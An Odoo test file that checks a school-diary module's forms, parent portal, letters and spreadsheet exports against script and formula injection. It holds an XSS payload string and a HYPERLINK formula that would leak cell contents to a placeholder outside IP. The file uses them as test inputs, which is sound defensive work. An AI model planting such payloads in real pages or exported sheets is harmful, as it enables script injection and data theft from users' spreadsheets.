import io
import json
import zipfile

from lxml import html
from markupsafe import escape

from odoo.http import Request
from odoo.tests import tagged

from ..common import SchoolDiaryHttpCommon
from ..delivery.common import parts
from ..results.common import ResultMixin
from .public_common import PublicPageMixin

SCRIPT = "\"'><script>pwned()</script><img src=x onerror=pwned()>"
FORMULA = '=HYPERLINK("http://192.0.2.1/?"&A1,"x")'


@tagged("post_install", "-at_install")
class TestAbuseScripts(PublicPageMixin, ResultMixin, SchoolDiaryHttpCommon):
    """Scripts in every text: shown as they were typed, run nowhere."""

    @classmethod
    def setUpClass(cls):
        super().setUpClass()
        cls._year_term()
        cls.school.email = "school@example.org"

    def _is_harmless(self, page, shown=True):
        """The script stands in the page as a text.

        :param shown: whether it stands there at all
        """
        self.assertNotIn("<script>pwned", page)
        document = html.fromstring(page)
        handlers = "//@*[starts-with(name(), 'on') and contains(., 'pwned')]"
        self.assertFalse(document.xpath(handlers))
        values = " ".join(document.xpath("//@value | //@title | //@content"))
        text = " ".join(document.itertext()) + values
        self.assertEqual("<script>pwned()</script>" in text, shown)

    def _page(self, url):
        answer = self.url_open(url)
        self.assertEqual(answer.status_code, 200, url)
        return answer.text

    def _apply(self, **typed):
        self._send(
            **{
                "applicant_name": f"Орлов {SCRIPT}",
                "child_name": f"Орлова {SCRIPT}",
                "child_class": "<script>",
                **typed,
            }
        )
        return self._applications()[:1]

    # The public page, and what the office reads of it

    def test_the_public_form(self):
        """Refused, the texts stand in the form again; sent, they are nowhere."""
        wrong = self._send(
            **dict.fromkeys(
                ("applicant_name", "applicant_email", "applicant_phone", "relation"),
                SCRIPT,
            ),
            child_name=f"Орлова {SCRIPT}",
            child_class=SCRIPT,
            delivery_channel=SCRIPT,
            request_key=SCRIPT,
        )
        self._is_harmless(wrong.text)
        self.assertFalse(self._applications())
        for address in ("", "/apply", "/apply/refusal"):
            page = self._page(f"{self.page}{address}?child_name={SCRIPT}&kind={SCRIPT}")
            self._is_harmless(page, shown=False)
        application = self._apply()
        self._is_harmless(self._page(self._link(application)), shown=False)
        self._is_harmless(self._confirm(application).text, shown=False)

    def test_the_school_itself(self):
        """Who names the school is trusted; still its name is a text."""
        self.school.name = f"Школа {SCRIPT}"
        self.school.phone = SCRIPT
        for address in ("", "/apply", "/apply/ending"):
            self._is_harmless(self._page(f"{self.page}{address}"))
        self._is_harmless(self._page("/diary-service"))

    def test_letters_to_the_applicant(self):
        self.school.name = f"Школа {SCRIPT}"
        with self._post() as mailbox:
            application = self._apply()
            self._confirm(application)
            application.write(
                {
                    "refusal_ground_id": self.env.ref(
                        "school_diary.refusal_ground_pupil"
                    ).id,
                    "refusal_text": f"Нет в списках {SCRIPT}",
                }
            )
            application.with_user(self.head).action_refuse()
        letters = mailbox.to("orlov@example.org")
        self.assertEqual(len(letters), 3)
        for letter in letters:
            text, page = parts(letter)
            self._is_harmless(page)
            self.assertNotIn("Орлов", text + letter["Subject"])

    def test_the_chatter_and_the_tasks_of_the_office(self):
        application = self._apply()
        self._confirm(application)
        own = application.with_user(self.secretary)
        own.applicant_name_dative = SCRIPT
        own.student_id = self.student
        own.action_withdraw()
        self.env.flush_all()
        self.cr.precommit.run()
        said = "".join(application.message_ids.mapped("body"))
        self._is_harmless(f"<div>{said}</div>", shown=False)
        self.authenticate("t_secretary", "t_secretary")
        answer = self._json(
            "/mail/thread/messages",
            thread_model=application._name,
            thread_id=application.id,
        )
        self.assertNotIn("<script>pwned", json.dumps(answer))

    def _json(self, url, **params):
        return self.url_open(
            url,
            data=json.dumps({"params": params}),
            headers={"Content-Type": "application/json"},
        ).json()

    def test_the_slip(self):
        self.student.last_name = f"Орлова{SCRIPT}"
        application = self._granted(
            applicant_name=f"Орлов {SCRIPT}",
            child_name=self.student.name,
            student_id=self.student.id,
        )
        page, _kind = (
            self.env["ir.actions.report"]
            .with_user(self.secretary)
            ._render_qweb_html(
                "school_diary.action_report_access_slip", application.ids
            )
        )
        self._is_harmless(page.decode())

    # The portal

    def test_every_page_of_the_portal(self):
        self.student.write(
            {"last_name": f"Орлова{SCRIPT}", "first_name": "Алиса<b>", "note": SCRIPT}
        )
        self.guardian.partner_id.name = f"Орлова {SCRIPT}"
        self.lesson.write({"topic": SCRIPT})
        self._homework(self.lesson, SCRIPT)
        self._give(self.student, self.lesson, "5", comment=SCRIPT)
        self.school.name = f"Школа {SCRIPT}"
        self.course_math.subject_id.name = f"Математика{SCRIPT}"
        purpose = self.env.ref("school_diary.consent_purpose_diary")
        purpose.write({"name": SCRIPT, "consequence": SCRIPT})
        own = {"partner_id": self.parent.partner_id.id, "company_id": self.school.id}
        refused = self._filed(child_name=f"Орлов {SCRIPT}")
        ground = self.env.ref("school_diary.refusal_ground_pupil")
        refused.write({**own, "refusal_ground_id": ground.id, "refusal_text": SCRIPT})
        refused.with_user(self.head).action_refuse()
        self.authenticate("t_parent", "t_parent")
        diary = f"/my/diary/{self.student.id}"
        for url in (
            "/my/home",
            "/my/applications",
            f"/my/applications?left={SCRIPT}",
            "/my/applications/new",
            "/my/consents",
            f"/my/delivery?of={SCRIPT}&problem={SCRIPT}",
            "/my/data",
            "/my/account",
            f"{diary}/absences",
            *(
                f"{diary}/{section}?date={SCRIPT}&term={SCRIPT}&subject={SCRIPT}"
                for section in ("week", "timetable", "grades", "homework", "tests")
            ),
            f"{diary}/attendance",
            f"{diary}/teachers",
            f"{diary}/results",
        ):
            with self.subTest(url):
                self._is_harmless(self._page(url))

    def _token(self, page):
        document = html.fromstring(self._page(page))
        return document.xpath("//form//input[@name='csrf_token']/@value")[0]

    def test_what_a_family_writes(self):
        """An absence, a message on the grades, an address: to teachers and office."""
        self._result().value_id = self._value("5")
        self.env.flush_all()
        self.authenticate("t_parent", "t_parent")
        diary = f"/my/diary/{self.student.id}"
        token = self._token(f"{diary}/absences")
        page = html.fromstring(self.url_open(f"{diary}/results").text)
        [as_of] = page.xpath("//input[@name='as_of']/@value")
        for url, typed in (
            (
                f"{diary}/absences/new",
                {"date_from": "2026-11-19", "reason": "ill", "text": SCRIPT},
            ),
            (f"{diary}/absences/new", {"date_from": SCRIPT, "text": SCRIPT}),
            (
                f"{diary}/results/{self.quarter.id}/seen",
                {"message": SCRIPT, "as_of": as_of},
            ),
            (
                f"/my/delivery/{self.guardian.id}/address",
                {"channel": "email", "address": f"a {SCRIPT}"},
            ),
            (f"/my/delivery/{self.guardian.id}/code", {"code": SCRIPT}),
        ):
            answer = self.url_open(url, data={"csrf_token": token, **typed})
            self.assertEqual(answer.status_code, 200)
            is_shown = "/code" not in url and "/seen" not in url
            self._is_harmless(answer.text, shown=is_shown)
        announced = self.env["school.absence.announcement"].search([])
        self.assertEqual(announced.text, SCRIPT)
        seen = self.env["school.acknowledgement"].search([])
        self.assertEqual(seen.message, SCRIPT)
        messages = announced.message_ids | seen.message_ids
        tasks = announced.activity_ids | seen.activity_ids
        told = messages.mapped("body") + tasks.filtered("note").mapped("note")
        self.assertNotIn("<script>", "".join(told))

    def test_what_is_taken_along(self):
        """The archive holds the texts as they are, in a page that runs nothing."""
        self.guardian.partner_id.name = f"Орлова {SCRIPT}"
        self.student.last_name = f"Орлова{SCRIPT}"
        self.authenticate("t_parent", "t_parent")
        answer = self.url_open(f"/my/data/{self.guardian.id}/download")
        self.assertIn("attachment", answer.headers["Content-Disposition"])
        self.assertNotIn("%D0", answer.headers["Content-Disposition"])
        with zipfile.ZipFile(io.BytesIO(answer.content)) as archive:
            self._is_harmless(archive.read("data.html").decode())
            held = json.loads(archive.read("data.json"))
        said = [cell for part in held for row in part["rows"] for cell in row]
        self.assertIn(f"Орлова {SCRIPT}", said)

    # Spreadsheets

    def test_no_formulas_in_exported_lists(self):
        """What strangers typed is opened by the office in its spreadsheet."""
        application = self._draft(
            applicant_name=FORMULA,
            child_name="{=1+1}",
            child_class="=1",
            applicant_phone="+7 978",
            note=FORMULA,
        )
        names = ("applicant_name", "child_name", "child_class", "applicant_phone")
        self.authenticate("t_secretary", "t_secretary")
        self.secretary.group_ids += self.env.ref("base.group_allow_export")
        for kind in ("xlsx", "csv"):
            for groups in ([], ["kind"]):
                content = self._export(application, (*names, "note"), kind, groups)
                if kind == "xlsx":
                    with zipfile.ZipFile(io.BytesIO(content)) as book:
                        sheet = book.read("xl/worksheets/sheet1.xml")
                        texts = book.read("xl/sharedStrings.xml").decode()
                    self.assertNotIn(b"<f>", sheet)
                    self.assertIn(str(escape(FORMULA)).replace("&#34;", '"'), texts)
                else:
                    self.assertNotIn(b'"=', content)

    def _export(self, records, names, kind, groups):
        data = {
            "model": records._name,
            "fields": [
                {"name": name, "label": name, "type": "char", "store": True}
                for name in names
            ],
            "ids": records.ids,
            "domain": [],
            "groupby": [] if kind == "csv" else groups,
            "import_compat": False,
            "context": {},
        }
        answer = self.url_open(
            f"/web/export/{kind}",
            data={"data": json.dumps(data), "csrf_token": Request.csrf_token(self)},
        )
        self.assertEqual(answer.status_code, 200, answer.text[:300])
        return answer.content

    def test_no_formulas_in_the_consolidated_sheet(self):
        # The one that asks for the sheet.
        self.school.school_regulation_id = self.env.ref("school_diary.regulation_000")
        self.student.write({"last_name": FORMULA, "first_name": "=1+1"})
        self.course_math.subject_id.name = FORMULA
        self.authenticate("t_head", "t_head")
        page = f"/school/class/{self.class_6b.id}/sheet"
        for kind, part, formula in (
            ("xlsx", "xl/worksheets/sheet1.xml", b"<f>"),
            ("ods", "content.xml", b"formula="),
        ):
            answer = self.url_open(f"{page}.{kind}")
            self.assertEqual(answer.status_code, 200)
            with zipfile.ZipFile(io.BytesIO(answer.content)) as book:
                self.assertNotIn(formula, book.read(part))
